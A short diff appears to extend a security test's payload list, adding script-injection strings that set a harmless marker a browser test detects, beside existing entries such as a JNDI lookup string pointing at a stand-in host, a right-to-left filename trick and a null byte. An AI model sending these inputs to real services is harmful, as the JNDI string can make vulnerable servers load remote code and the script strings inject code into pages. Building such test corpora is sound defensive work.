@@ -50,6 +50,10 @@ PAYLOADS = [
     "${jndi:ldap://evil.example/a}",
     "\u202egnp.exe",
     "\x00null byte",
+    # these leave a mark in the page if they run (tests/browser.py looks for it)
+    "<script>document.title='PWNED'</script>",
+    '<img src=x onerror="document.body.dataset.pwned=1">',
+    "Zoe\u200b\u2066hidden\u2069",
 ]
 
 
